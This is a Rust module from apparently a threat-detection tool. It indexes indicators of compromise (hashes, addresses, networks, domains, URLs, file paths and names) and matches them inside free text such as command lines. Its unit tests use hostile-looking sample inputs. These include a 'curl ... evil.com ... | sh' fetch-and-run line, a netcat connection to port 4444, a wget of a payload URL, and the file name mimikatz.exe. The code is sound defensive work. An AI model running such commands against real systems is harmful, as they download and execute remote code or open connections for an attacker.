//! An indexed set of indicators and the lookups over it.

use super::indicator::{
    Indicator, IocKind, is_windows_path, normalize_domain, normalize_path, normalize_url, parse_ip,
    url_host,
};
use aho_corasick::{AhoCorasick, AhoCorasickBuilder, MatchKind};
use ipnet::IpNet;
use std::collections::{BTreeSet, HashMap};
use std::net::IpAddr;

/// Indicators indexed for matching: hashes, exact addresses, file paths and names in hash
/// maps; networks in a list; domains by suffix; domains and URLs also in one
/// Aho-Corasick automaton to find them inside command lines and URLs.
#[derive(Debug, Clone, Default)]
pub struct IocSet {
    indicators: Vec<Indicator>,
    hashes: HashMap<String, Vec<usize>>,
    addresses: HashMap<IpAddr, Vec<usize>>,
    networks: Vec<(IpNet, usize)>,
    domains: HashMap<String, Vec<usize>>,
    urls: HashMap<String, Vec<usize>>,
    paths: HashMap<String, Vec<usize>>,
    names: HashMap<String, Vec<usize>>,
    text: Option<(AhoCorasick, Vec<(usize, IocKind)>)>,
}

impl IocSet {
    /// Indexes `indicators` (values as normalized by [`Indicator::new`]); duplicates from
    /// different sources are all kept, so an alarm can name every source.
    pub fn new(indicators: Vec<Indicator>) -> Self {
        let mut set = IocSet::default();
        let mut needles: Vec<String> = Vec::new();
        let mut needle_ids = Vec::new();
        for (i, ioc) in indicators.iter().enumerate() {
            let push = |map: &mut HashMap<String, Vec<usize>>, key: &str| {
                map.entry(key.to_string()).or_default().push(i)
            };
            match ioc.kind {
                IocKind::Sha256 | IocKind::Sha1 | IocKind::Md5 => push(&mut set.hashes, &ioc.value),
                IocKind::Ip => match parse_ip(&ioc.value) {
                    Some(net) if net.prefix_len() == net.max_prefix_len() => {
                        set.addresses.entry(net.addr()).or_default().push(i)
                    }
                    Some(net) => set.networks.push((net, i)),
                    None => {}
                },
                IocKind::Domain | IocKind::Url => {
                    let map = if ioc.kind == IocKind::Domain {
                        &mut set.domains
                    } else {
                        &mut set.urls
                    };
                    push(map, &ioc.value);
                    needles.push(ioc.value.clone());
                    needle_ids.push((i, ioc.kind));
                }
                IocKind::FilePath => push(&mut set.paths, &ioc.value),
                IocKind::FileName => push(&mut set.names, &ioc.value),
            }
        }
        if !needles.is_empty() {
            // Needles are a few thousand short strings: building cannot exceed the
            // automaton's limits, but a failure only disables text search.
            match AhoCorasickBuilder::new()
                .ascii_case_insensitive(true)
                .match_kind(MatchKind::Standard)
                .build(&needles)
            {
                Ok(ac) => set.text = Some((ac, needle_ids)),
                Err(e) => tracing::warn!(error = %e, "IOC text search disabled"),
            }
        }
        set.indicators = indicators;
        set
    }

    /// Every indicator, in the order given.
    pub fn indicators(&self) -> &[Indicator] {
        &self.indicators
    }

    /// Number of indicators.
    pub fn len(&self) -> usize {
        self.indicators.len()
    }

    /// Whether there are none.
    pub fn is_empty(&self) -> bool {
        self.indicators.is_empty()
    }

    /// Indicators of a hash (any case).
    pub fn match_hash(&self, hash: &str) -> &[usize] {
        self.hashes
            .get(&hash.trim().to_ascii_lowercase())
            .map_or(&[], Vec::as_slice)
    }

    /// Indicators of an address: exact ones, then the networks holding it.
    pub fn match_ip(&self, ip: IpAddr) -> Vec<usize> {
        let mut out: Vec<usize> = self.addresses.get(&ip).cloned().unwrap_or_default();
        out.extend(
            self.networks
                .iter()
                .filter(|(n, _)| n.contains(&ip))
                .map(|(_, i)| *i),
        );
        out
    }

    /// Indicators of a domain or any of its parents (`a.evil.com` matches `evil.com`).
    pub fn match_domain(&self, domain: &str) -> Vec<usize> {
        let Ok(mut d) = normalize_domain(domain).map(|d| d.as_str().to_owned()) else {
            return Vec::new();
        };
        let mut out = Vec::new();
        loop {
            if let Some(ids) = self.domains.get(&d) {
                out.extend_from_slice(ids);
            }
            match d.split_once('.') {
                Some((_, parent)) if parent.contains('.') => d = parent.to_string(),
                _ => return out,
            }
        }
    }

    /// Indicators of a URL: the URL itself, and its host as a domain or address.
    pub fn match_url(&self, url: &str) -> Vec<usize> {
        let mut out = normalize_url(url)
            .ok()
            .and_then(|u| self.urls.get(&u))
            .cloned()
            .unwrap_or_default();
        if let Some(host) = url_host(url) {
            match host.parse::<IpAddr>() {
                Ok(ip) => out.extend(self.match_ip(ip)),
                Err(_) => out.extend(self.match_domain(&host)),
            }
        }
        out
    }

    /// Indicators of a file path: the full path (case-insensitive for Windows paths), and
    /// its file name.
    pub fn match_path(&self, path: &str) -> Vec<usize> {
        let normalized = normalize_path(path);
        let mut out = self.paths.get(&normalized).cloned().unwrap_or_default();
        let sep: &[char] = if is_windows_path(path) {
            &['\\', '/']
        } else {
            &['/']
        };
        let name = path.rsplit(sep).next().unwrap_or(path).to_lowercase();
        out.extend(self.match_file_name(&name));
        out
    }

    /// Indicators of a file name (case-insensitive).
    pub fn match_file_name(&self, name: &str) -> &[usize] {
        self.names
            .get(&name.trim().to_lowercase())
            .map_or(&[], Vec::as_slice)
    }

    /// Indicators found inside free text (a command line, a URL, a registry value):
    /// domains and URLs at word boundaries, hashes as whole hex tokens, addresses as
    /// whole tokens.
    pub fn match_text(&self, text: &str) -> Vec<usize> {
        let mut out = Vec::new();
        if let Some((ac, ids)) = &self.text {
            for m in ac.find_overlapping_iter(text) {
                let (i, kind) = ids[m.pattern().as_usize()];
                if bounded(text.as_bytes(), m.start(), m.end(), kind) {
                    out.push(i);
                }
            }
        }
        for token in text.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.' || c == ':')) {
            let token = token.trim_matches(['.', ':']);
            match token.len() {
                32 | 40 | 64 if token.bytes().all(|b| b.is_ascii_hexdigit()) => {
                    out.extend_from_slice(self.match_hash(token))
                }
                7.. => {
                    if let Ok(ip) = token.parse::<IpAddr>() {
                        out.extend(self.match_ip(ip));
                    }
                }
                _ => {}
            }
        }
        out
    }

    /// Indicators of a collected file: its hashes and its original path.
    pub fn match_file(&self, path: &str, hashes: &[&str]) -> BTreeSet<usize> {
        let mut out: BTreeSet<usize> = self.match_path(path).into_iter().collect();
        for h in hashes {
            out.extend(self.match_hash(h));
        }
        out
    }
}

/// A domain found in text must not be part of a longer name: nothing name-like before it
/// except a dot (a subdomain), and nothing name-like right after it. A URL must start at
/// a boundary and may be followed by anything.
fn bounded(text: &[u8], start: usize, end: usize, kind: IocKind) -> bool {
    let name_byte = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    let before_ok = start == 0 || {
        let b = text[start - 1];
        !name_byte(b) && (b != b'.' || kind == IocKind::Domain)
    };
    if kind == IocKind::Url {
        return before_ok;
    }
    let after_ok = match text.get(end) {
        None => true,
        Some(b'.') => !text.get(end + 1).is_some_and(|b| name_byte(*b)),
        Some(b) => !name_byte(*b),
    };
    before_ok && after_ok
}

#[cfg(test)]
mod tests {
    use super::*;

    fn set(items: &[(IocKind, &str)]) -> IocSet {
        IocSet::new(
            items
                .iter()
                .map(|(k, v)| Indicator::new(*k, v, "test", "").unwrap())
                .collect(),
        )
    }

    #[test]
    fn domains_match_subdomains_only_at_label_boundaries() {
        let s = set(&[(IocKind::Domain, "evil.com")]);
        assert_eq!(s.match_domain("evil.com"), vec![0]);
        assert_eq!(s.match_domain("A.B.Evil.COM."), vec![0]);
        assert!(s.match_domain("notevil.com").is_empty());
        assert!(s.match_domain("evil.com.au").is_empty());
        assert_eq!(s.match_text("curl http://x.evil.com/a | sh"), vec![0]);
        assert!(s.match_text("curl http://notevil.com/a").is_empty());
        assert!(s.match_text("ping evil.com.au").is_empty());
        assert_eq!(s.match_text("ping evil.com."), vec![0]);
    }

    #[test]
    fn addresses_networks_hashes_and_paths() {
        let s = set(&[
            (IocKind::Ip, "10.0.0.0/8"),
            (IocKind::Ip, "2001:db8::1"),
            (IocKind::Md5, "44d88612fea8a8f36de82e1278abb02f"),
            (IocKind::FilePath, "C:\\Windows\\Temp\\evil.exe"),
            (IocKind::FileName, "mimikatz.exe"),
            (IocKind::Url, "http://bad.example/payload"),
        ]);
        assert_eq!(s.match_ip("10.9.8.7".parse().unwrap()), vec![0]);
        assert!(s.match_ip("11.0.0.1".parse().unwrap()).is_empty());
        assert_eq!(s.match_text("ssh root@[2001:db8::1]"), vec![1]);
        assert_eq!(s.match_text("nc 2001:db8::1 4444"), vec![1]);
        assert_eq!(
            s.match_text("x 44D88612FEA8A8F36DE82E1278ABB02F y"),
            vec![2]
        );
        assert_eq!(s.match_path("c:/windows/temp/EVIL.exe"), vec![3]);
        assert!(s.match_path("/c/windows/temp/evil.exe").is_empty());
        assert_eq!(s.match_path("D:\\tools\\Mimikatz.exe"), vec![4]);
        assert_eq!(s.match_url("HTTP://BAD.example/payload"), vec![5]);
        assert_eq!(s.match_text("wget http://bad.example/payload2"), vec![5]);
        assert_eq!(s.match_url("http://10.1.1.1/x"), vec![0]);
    }
}
